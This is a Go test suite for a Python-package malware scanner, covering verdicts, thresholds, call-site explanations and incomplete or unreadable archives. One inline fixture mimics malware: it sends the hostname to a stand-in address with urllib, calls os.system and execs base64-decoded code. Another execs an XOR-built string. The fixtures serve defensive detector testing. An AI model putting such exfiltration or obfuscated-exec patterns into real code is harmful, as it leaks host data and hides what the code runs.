package malguard_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/require"
	ezip "github.com/yeka/zip"

	"github.com/malguard/malguard"
	"github.com/malguard/malguard/datasets"
	"github.com/malguard/malguard/graph"
)

// The reasons of a verdict point at the calls in the source.
func TestScanMalicious(t *testing.T) {
	path := filepath.Join(corpus(t), "planted-2.0")
	v := trained(t).Scan(t.Context(), path, malguard.ScanOptions{})
	require.Equal(t, malguard.Scored, v.Status)
	require.Equal(t, "malicious", v.Label)
	require.GreaterOrEqual(t, v.Score, v.Threshold)
	require.Equal(t, []string{path, "planted", "2.0", "setup.py"}, []string{v.Path, v.Name, v.Version, v.File})
	require.Empty(t, v.Incomplete)
	require.Empty(t, v.Error)

	source, err := os.ReadFile(filepath.Join(path, "setup.py"))
	require.NoError(t, err)
	lines := strings.Split(string(source), "\n")
	found := map[string]malguard.Reason{}
	for i, r := range v.Reasons {
		require.Positive(t, r.Weight)
		require.True(t, i == 0 || v.Reasons[i-1].Weight >= r.Weight, "strongest first")
		require.NotEmpty(t, r.Sites)
		last := r.API[strings.LastIndex(r.API, ".")+1:]
		for _, s := range r.Sites {
			require.Equal(t, "setup.py", s.File)
			require.Contains(t, lines[s.Line-1], last, r.API)
		}
		found[r.API] = r
	}
	require.Contains(t, found, "os.system")
	require.Equal(t, "start other programs", found["os.system"].Purpose)
	require.Equal(t, []malguard.Site{{File: "setup.py", Line: 12, Function: "setup.beacon", Phase: graph.PhaseInstall, Arguments: []string{"true"}}}, found["os.system"].Sites)
}

func TestScanBenign(t *testing.T) {
	path := filepath.Join(corpus(t), "quiet-3.0")
	v := trained(t).Scan(t.Context(), path, malguard.ScanOptions{})
	require.Equal(t, malguard.Scored, v.Status)
	require.Equal(t, "benign", v.Label)
	require.Less(t, v.Score, v.Threshold)
	require.NotNil(t, v.Reasons)
	require.Empty(t, v.Reasons, "none below the threshold")
}

func TestScanOptions(t *testing.T) {
	dir := corpus(t)
	m, err := trained(t).WithThreshold(1)
	require.NoError(t, err)
	scan := func(opt malguard.ScanOptions) *malguard.Verdict {
		return m.Scan(t.Context(), filepath.Join(dir, "planted-2.0"), opt)
	}
	require.Empty(t, scan(malguard.ScanOptions{}).Reasons)
	all := scan(malguard.ScanOptions{Explain: true})
	require.Equal(t, "benign", all.Label)
	require.Greater(t, len(all.Reasons), 2)
	require.LessOrEqual(t, len(all.Reasons), 10)
	require.Equal(t, all.Reasons[:2], scan(malguard.ScanOptions{Explain: true, MaxReasons: 2}).Reasons)
	require.Empty(t, scan(malguard.ScanOptions{Explain: true, MaxReasons: -1}).Reasons)
}

// Of many calls of one API twenty are shown.
func TestScanShowsTwentySites(t *testing.T) {
	dir := t.TempDir()
	put(t, filepath.Join(dir, "a.py"), []byte("import os\n"+strings.Repeat("os.system('true')\n", 50)))
	m, err := trained(t).WithThreshold(0)
	require.NoError(t, err)
	for _, r := range m.Scan(t.Context(), dir, malguard.ScanOptions{}).Reasons {
		if r.API == "os.system" {
			require.Len(t, r.Sites, 20)
			require.Equal(t, 2, r.Sites[0].Line)
			return
		}
	}
	require.Fail(t, "os.system is no reason")
}

// encrypted is a zip with a password that nobody knows.
func encrypted(t testing.TB) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := ezip.NewWriter(&buf)
	m, err := w.Encrypt("a/setup.py", "unknown password", ezip.StandardEncryption)
	require.NoError(t, err)
	_, err = m.Write([]byte("import os\nos.getcwd()\n"))
	require.NoError(t, err)
	require.NoError(t, w.Close())
	return buf.Bytes()
}

// Nothing read is not clean: what is not read in full is never benign, and it is
// malicious where what was read suffices.
func TestScanIncomplete(t *testing.T) {
	planted, err := os.ReadFile(filepath.Join(corpus(t), "planted-2.0", "setup.py"))
	require.NoError(t, err)
	bad := string(planted)
	const quiet = "import json\nprint(json.loads('1'))\n"
	filler := strings.Repeat("0123456789abcdef", 1<<14)
	cut := func(data []byte) []byte { return data[:len(data)-60] }
	tests := []struct {
		name   string
		file   string
		data   []byte
		limits datasets.Limits
		label  string
		status string // among the reasons
	}{
		{"no Python", "a-1.tar.gz", files{"a-1/README": "text"}.tarGz(t), datasets.Limits{}, "unknown", "no-python"},
		{"no file", "a-1.zip", files{}.zip(t), datasets.Limits{}, "unknown", "empty"},
		{"over a limit", "a-1.tar.gz", files{"a.py": quiet, "b.py": quiet}.tarGz(t), datasets.Limits{Entries: 1}, "unknown", "limit-entries"},
		{"file over a limit", "a-1.tar.gz", files{"a.py": quiet}.tarGz(t), datasets.Limits{File: 20}, "unknown", "limit-file"},
		{"truncated", "a-1.tar.gz", cut(files{"a.py": quiet, "z": filler}.tarGz(t)), datasets.Limits{}, "unknown", "truncated"},
		{"only file unparsable", "a-1.tar.gz", files{"b.py": "\x00\x01 = = ) ("}.tarGz(t), datasets.Limits{}, "unknown", "unparsed"},
		{"one file unparsable", "a-1.tar.gz", files{"a.py": quiet, "b.py": "= ="}.tarGz(t), datasets.Limits{}, "unknown", "unparsed"},
		{"noise that looks like a call", "a-1.tar.gz", files{"a.py": quiet, "b.py": "= =\n) (\nf()\n] ["}.tarGz(t), datasets.Limits{}, "unknown", "unparsed"},
		{"encoding of an unknown codec", "a-1.tar.gz", files{"a.py": "# coding: mycodec\n" + quiet}.tarGz(t), datasets.Limits{}, "unknown", "unknown-encoding"},
		{"bytecode", "a-1.tar.gz", files{"a.py": quiet, "b.pyc": "x"}.tarGz(t), datasets.Limits{}, "unknown", "unread-code"},
		{"too many tokens", "a-1.tar.gz", files{"a.py": quiet + "x = [" + strings.Repeat("1,", 3_100_000) + "]\n"}.tarGz(t), datasets.Limits{}, "unknown", "limit-tokens"},
		{"encrypted", "a-1.zip", encrypted(t), datasets.Limits{}, "unknown", "encrypted"},
		{"truncated behind malice", "a-1.tar.gz", cut(files{"setup.py": bad, "z": filler}.tarGz(t)), datasets.Limits{}, "malicious", "truncated"},
		{"unparsable beside malice", "a-1.zip", files{"setup.py": bad, "b.py": "= ="}.zip(t), datasets.Limits{}, "malicious", "unparsed"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), test.file)
			put(t, path, test.data)
			v := trained(t).Scan(t.Context(), path, malguard.ScanOptions{Limits: test.limits})
			require.Equal(t, malguard.Incomplete, v.Status)
			require.Equal(t, test.label, v.Label)
			var got []string
			for _, r := range v.Incomplete {
				got = append(got, r.Status)
			}
			require.Contains(t, got, test.status)
		})
	}
}

// Without a score there is no label, whatever the threshold.
func TestScanWithoutScore(t *testing.T) {
	m, err := trained(t).WithThreshold(0)
	require.NoError(t, err)
	v := m.Scan(t.Context(), t.TempDir(), malguard.ScanOptions{Explain: true})
	require.Equal(t, []any{malguard.Incomplete, "unknown", 0.0, ""}, []any{v.Status, v.Label, v.Score, v.File})
}

// A file that counts as Python when a package is opened is read when it is
// judged: case-insensitive systems run SETUP.PY.
func TestScanReadsUpperCase(t *testing.T) {
	dir := corpus(t)
	source, err := os.ReadFile(filepath.Join(dir, "planted-2.0", "setup.py"))
	require.NoError(t, err)
	put(t, filepath.Join(dir, "up", "RUN.PY"), source)
	v := trained(t).Scan(t.Context(), filepath.Join(dir, "up"), malguard.ScanOptions{})
	require.Equal(t, "RUN.PY", v.File)
	require.Equal(t, malguard.Scored, v.Status)
}

func TestScanWarns(t *testing.T) {
	path := filepath.Join(t.TempDir(), "a-1.tar.gz")
	put(t, path, files{"a.py": "import json\nx = = json.loads('1')\n"}.zip(t))
	v := trained(t).Scan(t.Context(), path, malguard.ScanOptions{})
	require.Equal(t, malguard.Scored, v.Status, "warnings hide nothing")
	require.Len(t, v.Warnings, 2)
	require.Contains(t, v.Warnings[0], "a.py: 1 places that no Python accepts, the first in callgraph: a.py:2")
	require.Contains(t, v.Warnings[1], "lying-extension")
}

func TestScanFailed(t *testing.T) {
	cancelled, cancel := context.WithCancel(t.Context())
	cancel()
	dir := t.TempDir()
	put(t, filepath.Join(dir, "empty.zip"), nil)
	put(t, filepath.Join(dir, "noise.zip"), []byte("hello"))
	tests := []struct {
		name, path, want string
		ctx              context.Context
	}{
		{"missing", "none.zip", "no such file", t.Context()},
		{"empty", "empty.zip", "empty file", t.Context()},
		{"no archive", "noise.zip", "unknown format", t.Context()},
		{"cancelled", ".", "context canceled", cancelled},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			path := filepath.Join(dir, test.path)
			v := trained(t).Scan(test.ctx, path, malguard.ScanOptions{})
			require.Contains(t, v.Error, test.want)
			v.Error = ""
			require.Equal(t, &malguard.Verdict{
				Path: path, Status: malguard.Failed, Label: "unknown", Threshold: trained(t).Info().Threshold, Reasons: []malguard.Reason{},
			}, v)
		})
	}
}

func TestScanDeterministic(t *testing.T) {
	path := filepath.Join(corpus(t), "planted-2.0")
	var first string
	for i := range 5 {
		text, err := json.Marshal(trained(t).Scan(t.Context(), path, malguard.ScanOptions{Explain: true}))
		require.NoError(t, err)
		if i == 0 {
			first = string(text)
		}
		require.Equal(t, first, string(text))
	}
}

func TestJudge(t *testing.T) {
	p := &datasets.Package{Name: "n", Version: "1", SHA256: "s", FS: fstest.MapFS{"a.py": {Data: []byte("print(1)\n")}}}
	v, err := trained(t).Judge(t.Context(), p, malguard.ScanOptions{})
	require.NoError(t, err)
	require.Equal(t, []string{"", "n", "1", "s", "a.py"}, []string{v.Path, v.Name, v.Version, v.SHA256, v.File})

	p.Incomplete = []datasets.Reason{{Status: "truncated"}}
	p.Warnings = []error{errors.New("odd")}
	v, err = trained(t).Judge(t.Context(), p, malguard.ScanOptions{})
	require.NoError(t, err)
	require.Equal(t, p.Incomplete, v.Incomplete)
	require.Equal(t, []string{"odd"}, v.Warnings)

	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	v, err = trained(t).Judge(ctx, p, malguard.ScanOptions{})
	require.Nil(t, v)
	require.ErrorIs(t, err, context.Canceled)
}

// unreadable is a file system of which one file cannot be read.
type unreadable struct {
	fs.FS
	name string
}

func (u unreadable) Open(name string) (fs.File, error) {
	if name == u.name {
		return nil, &fs.PathError{Op: "open", Path: name, Err: errors.New("broken")}
	}
	return u.FS.Open(name)
}

// entangled are two modules that import each other so often that resolving
// their names ends at the limit on steps.
func entangled() files {
	text := strings.Repeat("from p import *\nfrom q import *\n", 100) + strings.Repeat("y()\n", 20_000)
	return files{"p.py": text, "q.py": text}
}

// What keeps the graph from being whole keeps the package from being benign.
func TestJudgeDoubtsGraphs(t *testing.T) {
	tests := map[string]fs.FS{
		"unreadable":   unreadable{files{"a.py": "print(1)\n", "b.py": "print(2)\n"}.fs(), "b.py"},
		"limit-steps":  entangled().fs(),
		"limit-hidden": files{"a.py": "s = 'x'\nfor i in range(900000):\n    s = chr(ord(s) ^ 1)\nexec(s)\n"}.fs(),
	}
	for status, fsys := range tests {
		t.Run(status, func(t *testing.T) {
			v, err := trained(t).Judge(t.Context(), &datasets.Package{FS: fsys}, malguard.ScanOptions{})
			require.NoError(t, err)
			require.Equal(t, []any{malguard.Incomplete, "unknown"}, []any{v.Status, v.Label})
			require.Equal(t, status, v.Incomplete[len(v.Incomplete)-1].Status)
		})
	}
}

// The score is that of the worst file, and more files that do less change
// nothing.
func TestJudgeTakesTheWorstFile(t *testing.T) {
	files := fstest.MapFS{}
	for i := range 30 {
		files[fmt.Sprintf("a/m%d.py", i)] = &fstest.MapFile{Data: []byte("import json\nprint(json.loads('1'))\n")}
	}
	bad := &fstest.MapFile{Data: []byte("import os, base64, socket, urllib.request\n" +
		"urllib.request.urlopen('http://192.0.2.1', socket.gethostname())\nos.system('true')\nexec(base64.b64decode('cGFzcw=='))\n")}
	judge := func(fsys fstest.MapFS) *malguard.Verdict {
		v, err := trained(t).Judge(t.Context(), &datasets.Package{FS: fsys}, malguard.ScanOptions{})
		require.NoError(t, err)
		return v
	}
	alone := judge(fstest.MapFS{"a/m7.py": bad})
	files["a/m7.py"] = bad
	among := judge(files)
	require.Equal(t, "a/m7.py", among.File)
	require.Equal(t, alone.Score, among.Score)
	require.Equal(t, alone.Reasons, among.Reasons)
}

// Score leaves out files of the verdict, not of the graph.
func TestScanScore(t *testing.T) {
	planted := filepath.Join(corpus(t), "planted-2.0")
	model := trained(t)
	whole := model.Scan(t.Context(), planted, malguard.ScanOptions{})
	require.Equal(t, "setup.py", whole.File)
	part := model.Scan(t.Context(), planted, malguard.ScanOptions{Score: func(file string) bool { return file != "setup.py" }})
	require.NotEqual(t, "setup.py", part.File)
	require.Less(t, part.Score, whole.Score)
	none := model.Scan(t.Context(), planted, malguard.ScanOptions{Score: func(string) bool { return false }})
	require.Equal(t, malguard.Incomplete, none.Status)
	require.Equal(t, "unknown", none.Label)
}
